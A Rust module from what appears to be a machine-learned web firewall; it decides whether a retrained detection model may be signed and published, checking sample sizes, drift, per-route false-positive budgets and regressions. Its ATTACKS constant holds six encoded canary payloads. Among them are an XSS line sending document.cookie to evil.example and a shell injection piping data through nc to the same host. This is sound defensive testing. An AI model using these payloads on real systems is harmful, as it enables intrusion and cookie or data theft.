//! Whether a candidate may be published. Publishing needs an [`Approved`], and only [`approve`] makes one.

use std::fmt;

use ed25519_dalek::SigningKey;
use waf_model::{
    artifact,
    client::ClientVector,
    model::{Model, baseline::MOVED, calibration::Certificate},
    observation::Observation,
    score::Score,
};

use crate::{
    calibrate::{Candidate, RouteRate},
    conformal,
    drift::Drift,
    lake::columns::request_id,
    robust,
};

/// Least requests to calibrate on.
const CALIBRATION_REQUESTS: u64 = 50;

/// Least clients to learn from, where there are clients.
const CLIENTS: u64 = 10;

/// Plain attacks, name and query: no model that calls one of them normal is published.
pub const ATTACKS: [(&str, &str); 6] = [
    (
        "SQL injection",
        "id=7%27%20OR%20%27a%27%3D%27a%27%20UNION%20SELECT%20name%2C%20pass%20FROM%20accounts--",
    ),
    (
        "cross-site scripting",
        "q=%3Cimg%20src%3Dn%20onerror%3D%22fetch%28%27//evil.example/%27%2Bdocument.cookie%29%22%3E",
    ),
    ("path traversal", "file=..%2F..%2F..%2F..%2F..%2Fetc%2Fshadow"),
    ("shell command", "host=127.0.0.1%3B%20cat%20/etc/hosts%20%7C%20nc%20evil.example%2099"),
    ("template injection", "name=%7B%7B7*7%7D%7D%24%7B%28self.__class__.mro%28%29%29%7D"),
    ("encoded twice", "q=%2527%2520or%25201%253d1%2520--%2520%253Cscript%253E"),
];

/// A canary is told from clean requests if at most one of a hundred clean ones is as far from normal.
const CANARY_SURPRISE: f32 = 2.0;

/// Largest share of the features that may move far.
const FEATURES_MAY_MOVE: f64 = 0.1;

/// How far clusters may move, in the middle and at most, in usual deviations of the features (after Kloft and Laskov
/// 2012: an attacker who may move a center only so far each time gains only so much).
const MOVEMENT: (f32, f32) = (1.0, 3.0);

/// Routes without a certificate of their own share a threshold, so some of them get more of the false positives than
/// others: up to so many times the budget, which is one over all of them.
const ROUTE_SHARE: f64 = 5.0;

/// Share of the rewritten attacks that may be lost from model to model.
const ROBUSTNESS: f64 = 0.01;

/// Share of the attacks in the site's own requests that may be lost from model to model.
const DETECTION: f64 = 0.005;

/// What is asked of a candidate.
#[derive(Debug, Clone)]
pub struct Demands {
    /// Least clean requests in the data set.
    pub requests: u64,
    /// Clean requests in the data set.
    pub available: u64,
    /// Whether the data has clients.
    pub clients: Clients,
    /// The model in force, if there is one that can be compared with.
    pub current: Option<Model>,
    /// Share of the requests that were removed as not clean.
    pub removed: f64,
    /// Largest such share.
    pub may_remove: f64,
    /// Whether a person approved that traffic and clusters moved, and what that costs.
    pub approve_drift: bool,
    /// Ids of requests that a person confirmed as attacks, that the model in force flags and the candidate does not.
    pub lost: Vec<[u8; 16]>,
    /// Ids of requests that a person judged harmless and that the candidate would reject.
    pub wronged: Vec<[u8; 16]>,
}

/// Whether the data tells clients apart.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Clients {
    /// Events of a gateway.
    Known,
    /// Labelled requests.
    Unknown,
}

/// A signed artifact that passed every gate.
pub struct Approved {
    seq: u64,
    bytes: Vec<u8>,
}

/// Why a candidate is refused; the model in force stays.
#[derive(Debug, Clone, PartialEq)]
pub enum Refusal {
    /// Too few requests.
    Requests {
        /// Learned from.
        found: u64,
        /// Least.
        wanted: u64,
    },
    /// Too few clean, later requests.
    Calibration {
        /// Calibrated on.
        found: u64,
    },
    /// Too few clients.
    Clients {
        /// Learned from.
        found: u64,
    },
    /// A certificate promises nothing.
    Certificate(Certificate),
    /// Attacks look as harmless as the site's own requests.
    Canary {
        /// The attack.
        name: &'static str,
        /// Its distance.
        distance: f32,
        /// The median of clean requests.
        median: f32,
    },
    /// The model in force tells an attack from clean requests, the candidate does not.
    Regression {
        /// The attack.
        name: &'static str,
    },
    /// A request that a person judged harmless would be rejected.
    MustPass {
        /// Its id.
        request: [u8; 16],
        /// How many there are.
        count: usize,
    },
    /// An attack that a person confirmed would no longer be rejected.
    MustFlag {
        /// Its id.
        request: [u8; 16],
        /// How many there are.
        count: usize,
    },
    /// Much of the traffic is not clean: what is left may not be either.
    Removed {
        /// Share that was removed.
        share: f64,
        /// Largest share that may be.
        limit: f64,
    },
    /// One route would see far more false positives than was promised.
    Route {
        /// The route.
        route: String,
        /// Clean, later requests of it.
        n: u64,
        /// How many of them would be rejected.
        flagged: u64,
        /// The rate that was promised.
        budget: f64,
    },
    /// Many features moved since the model in force.
    Drift {
        /// Share of the features.
        share: f64,
        /// The farthest ones.
        features: Vec<&'static str>,
    },
    /// Clusters moved far since the model in force.
    Movement {
        /// The middle one, in usual deviations.
        middle: f32,
        /// The farthest.
        largest: f32,
    },
    /// Rewritten attacks pass more easily than by the model in force.
    Robustness {
        /// Share that the model in force tells from clean requests.
        before: f64,
        /// Share that the candidate does.
        now: f64,
    },
    /// Attacks in place of the site's own values would be rejected less often than by the model in force.
    Detection {
        /// Share that the model in force rejects.
        before: f64,
        /// Share that the candidate does.
        now: f64,
    },
    /// A gateway would refuse it.
    Artifact(String),
}

impl fmt::Display for Refusal {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Requests { found, wanted } => {
                write!(f, "{found} clean requests to learn from, {wanted} wanted; let more traffic come in")
            }
            Self::Calibration { found } => write!(
                f,
                "{found} clean, later requests to calibrate on, {CALIBRATION_REQUESTS} wanted; let more traffic come in"
            ),
            Self::Clients { found } => write!(
                f,
                "{found} clients to learn from, {CLIENTS} wanted: one client must not say what is normal"
            ),
            Self::Certificate(certificate) => {
                write!(f, "the request certificate promises nothing: {certificate:?}")
            }
            Self::Canary { name, distance, median } => write!(
                f,
                "an attack ({name}) looks harmless: distance {distance:.2}, clean requests {median:.2}; the training \
                 data may hold attacks, review what was learned"
            ),
            Self::Regression { name } => write!(
                f,
                "an attack ({name}) that the model in force would flag looks usual now; the training data may hold \
                 attacks, review what was learned"
            ),
            Self::MustPass { request, count } => write!(
                f,
                "{count} requests that were judged harmless would be rejected, {} among them; allow a larger request \
                 budget, or review them again",
                request_id(request)
            ),
            Self::MustFlag { request, count } => write!(
                f,
                "{count} confirmed attacks that the model in force rejects would pass, {} among them; the training \
                 data may hold attacks like them: confirm those too, or review these again",
                request_id(request)
            ),
            Self::Removed { share, limit } => write!(
                f,
                "{:.0}% of the requests were removed as not clean, {:.0}% may be: what is left may hold attacks too; \
                 wait until the attack has left the window, or look at what was removed and allow it with \
                 --max-removed",
                share * 100.0,
                limit * 100.0
            ),
            Self::Route { route, n, flagged, budget } => write!(
                f,
                "{flagged} of {n} clean requests of route {route} would be rejected, {budget:.1e} were promised: that \
                 route is unlike the others; let more of its traffic come in, or review what was flagged there"
            ),
            Self::Drift { share, features } => write!(
                f,
                "{:.0}% of the features moved far since the model in force (population stability index over {MOVED}; \
                 first {}), {:.0}% may: if the site changed, train again with --approve-drift; if not, look at what \
                 was learned",
                share * 100.0,
                features.join(", "),
                FEATURES_MAY_MOVE * 100.0
            ),
            Self::Movement { middle, largest } => write!(
                f,
                "the clusters moved by {middle:.2} usual deviations in the middle and {largest:.2} at most, {} and {} \
                 may be: if the site changed, train again with --approve-drift; if not, somebody may be pulling them",
                MOVEMENT.0, MOVEMENT.1
            ),
            Self::Robustness { before, now } => write!(
                f,
                "{:.1}% of rewritten attacks are told from clean requests, {:.1}% were by the model in force; the \
                 training data may hold attacks, review what was learned",
                now * 100.0,
                before * 100.0
            ),
            Self::Detection { before, now } => write!(
                f,
                "{:.1}% of attacks in the site's own requests would be rejected, {:.1}% are by the model in force: the \
                 training data may hold attacks, or the site became more varied; review what was learned, and if it is \
                 right, train again with --approve-drift",
                now * 100.0,
                before * 100.0
            ),
            Self::Artifact(error) => write!(f, "a gateway would refuse the artifact: {error}"),
        }
    }
}

impl fmt::Debug for Approved {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Approved(model {}, {} bytes)", self.seq, self.bytes.len())
    }
}

impl Approved {
    /// Sequence number of the model.
    pub fn seq(&self) -> u64 {
        self.seq
    }

    /// The signed artifact.
    pub fn bytes(&self) -> &[u8] {
        &self.bytes
    }

    /// An artifact that `train` approved earlier and wrote to a file: signed with this trainer's own key, which
    /// signs nothing that was refused.
    ///
    /// # Errors
    /// A gateway would refuse it, or another key signed it.
    pub fn from_file(bytes: Vec<u8>, key: &SigningKey) -> Result<Self, Refusal> {
        let model = artifact::decode(&bytes, &[key.verifying_key()])
            .map_err(|error| Refusal::Artifact(error.to_string()))?;
        Ok(Self { seq: model.seq(), bytes })
    }
}

/// Puts `candidate` through every gate and signs it.
///
/// # Errors
/// Every gate that refused it.
pub fn approve(candidate: &Candidate, demands: &Demands, key: &SigningKey) -> Result<Approved, Vec<Refusal>> {
    let model = &candidate.model;
    let provenance = model.provenance();
    let certificate = model.request_certificate();
    let mut refusals = Vec::new();
    if demands.available < demands.requests {
        refusals.push(Refusal::Requests { found: demands.available, wanted: demands.requests });
    }
    if certificate.n < CALIBRATION_REQUESTS {
        refusals.push(Refusal::Calibration { found: certificate.n });
    }
    if demands.clients == Clients::Known && provenance.clients < CLIENTS {
        refusals.push(Refusal::Clients { found: provenance.clients });
    }
    if certificate.n == 0 || !certificate.threshold.is_finite() {
        refusals.push(Refusal::Certificate(*certificate));
    }
    let host = host(candidate);
    for (name, score) in canaries(model, &host) {
        if score.request_distance <= candidate.median {
            let (distance, median) = (score.request_distance, candidate.median);
            refusals.push(Refusal::Canary { name, distance, median });
        }
    }
    if let Some(current) = &demands.current {
        for ((name, before), (_, now)) in canaries(current, &host).into_iter().zip(canaries(model, &host)) {
            if before.request.surprise() >= CANARY_SURPRISE && now.request.surprise() < CANARY_SURPRISE {
                refusals.push(Refusal::Regression { name });
            }
        }
        let mutants = robust::mutants();
        let [before, now] =
            [current, model].map(|model| robust::detected(model, &host, &mutants, CANARY_SURPRISE));
        if now < before - ROBUSTNESS {
            refusals.push(Refusal::Robustness { before, now });
        }
        let observed = candidate.golden.iter().map(|golden| golden.observation.clone());
        let hosts: Vec<(String, Observation)> =
            candidate.golden_routes.iter().cloned().zip(observed).collect();
        let attacks = robust::placed(&hosts, model.value_key());
        let [before, now] = [current, model].map(|model| robust::rejected(model, &attacks));
        if now < before - DETECTION && !demands.approve_drift {
            refusals.push(Refusal::Detection { before, now });
        }
    }
    refusals.extend(over_budget(candidate));
    if let Some(drift) = candidate.drift.as_ref().filter(|_| !demands.approve_drift) {
        refusals.extend(moved(drift));
    }
    if demands.removed > demands.may_remove {
        refusals.push(Refusal::Removed { share: demands.removed, limit: demands.may_remove });
    }
    if let Some(request) = demands.lost.first() {
        refusals.push(Refusal::MustFlag { request: *request, count: demands.lost.len() });
    }
    if let Some(request) = demands.wronged.first() {
        refusals.push(Refusal::MustPass { request: *request, count: demands.wronged.len() });
    }
    match sign(candidate, key) {
        Ok(approved) if refusals.is_empty() => Ok(approved),
        Ok(_) => Err(refusals),
        Err(refusal) => {
            refusals.push(refusal);
            Err(refusals)
        }
    }
}

/// Routes that beyond doubt get more than [`ROUTE_SHARE`] times the budget. Where there are too few requests to
/// tell, nothing is refused: the promise is one over all routes.
fn over_budget(candidate: &Candidate) -> impl Iterator<Item = Refusal> {
    let Certificate { budget, confidence, .. } = *candidate.model.request_certificate();
    let limit = (ROUTE_SHARE * budget).min(1.0);
    let doubt = (1.0 - confidence) / candidate.routes.len().max(1) as f64;
    candidate
        .routes
        .iter()
        .filter(move |route| route.flagged > 0 && conformal::at_least(route.n, limit, route.flagged) < doubt)
        .map(move |RouteRate { route, n, flagged, .. }| Refusal::Route {
            route: route.clone(),
            n: *n,
            flagged: *flagged,
            budget,
        })
}

fn moved(drift: &Drift) -> Vec<Refusal> {
    let mut refusals = Vec::new();
    let share = drift.moved_features();
    if share > FEATURES_MAY_MOVE {
        let features = drift.psi.iter().take(3).map(|(name, _)| *name).collect();
        refusals.push(Refusal::Drift { share, features });
    }
    let (middle, largest) = drift.movement();
    if middle > MOVEMENT.0 || largest > MOVEMENT.1 {
        refusals.push(Refusal::Movement { middle, largest });
    }
    refusals
}

/// Encodes, and reads back as a gateway would: signature, limits, golden pairs.
fn sign(candidate: &Candidate, key: &SigningKey) -> Result<Approved, Refusal> {
    let refused = |error: artifact::ArtifactError| Refusal::Artifact(error.to_string());
    let bytes = artifact::encode(&candidate.model, &candidate.golden, key).map_err(refused)?;
    artifact::decode(&bytes, &[key.verifying_key()]).map_err(refused)?;
    Ok(Approved { seq: candidate.model.seq(), bytes })
}

/// Scores of the [`ATTACKS`], each inside an otherwise clean request.
fn canaries(model: &Model, host: &Observation) -> Vec<(&'static str, Score)> {
    ATTACKS
        .iter()
        .map(|(name, query)| {
            let observation = robust::within(host, query, model.value_key());
            (*name, model.score(&observation, &ClientVector::UNKNOWN))
        })
        .collect()
}

/// The clean request whose distance is the middle one of those kept as golden pairs.
fn host(candidate: &Candidate) -> Observation {
    let mut golden: Vec<_> = candidate.golden.iter().collect();
    golden.sort_by(|a, b| a.request_distance.total_cmp(&b.request_distance));
    golden.get(golden.len() / 2).map(|golden| golden.observation.clone()).unwrap_or_default()
}
